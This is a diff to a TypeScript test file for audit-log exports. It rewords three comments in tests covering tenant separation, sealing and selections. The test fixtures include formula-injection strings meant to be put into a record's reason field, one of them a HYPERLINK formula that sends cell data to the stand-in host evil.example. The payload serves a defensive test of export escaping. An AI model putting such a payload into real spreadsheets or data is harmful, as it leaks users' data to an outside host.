@@ -20,7 +20,7 @@ let key: string;
 const tenant = newTenantId();
 const other = newTenantId();
 const begun: BegunExport = { size: 640, exportedAt: '2026-03-04T05:06:07.008Z' };
-/** What somebody would put into a reason who hopes that it is opened with a spreadsheet, or grepped. */
+/** What an attacker might put into a reason, hoping that it is opened with a spreadsheet, or grepped. */
 const nasty = [
   '=HYPERLINK("http://evil.example/?"&A1,"see")',
   '+1',
@@ -64,7 +64,7 @@ beforeAll(async () => {
   );
   await world.write(tenant, someRecords(tenant, begun.size - 301 - nasty.length - 3));
   await world.sealed();
-  // What is sealed later is in none of the exports that began before.
+  // What is sealed later is in none of the exports that started before.
   await world.write(tenant, someRecords(tenant, 5));
   await world.write(other, someRecords(other, 3));
   await world.sealed();
@@ -91,7 +91,7 @@ const notARecord = expect.objectContaining({ kind: 'not-a-record' });
 
 const selections: readonly { name: string; selection: Selection; records: number }[] = [
   { name: 'the whole log', selection: {}, records: begun.size },
-  // The leaf that is no record belongs to every selection.
+  // A leaf that is not a record belongs to every selection.
   { name: 'a selection', selection: { outcome: 'denied' }, records: nasty.length + 1 },
   { name: 'a selection of nothing', selection: { action: 'nothing' }, records: 1 },
 ];
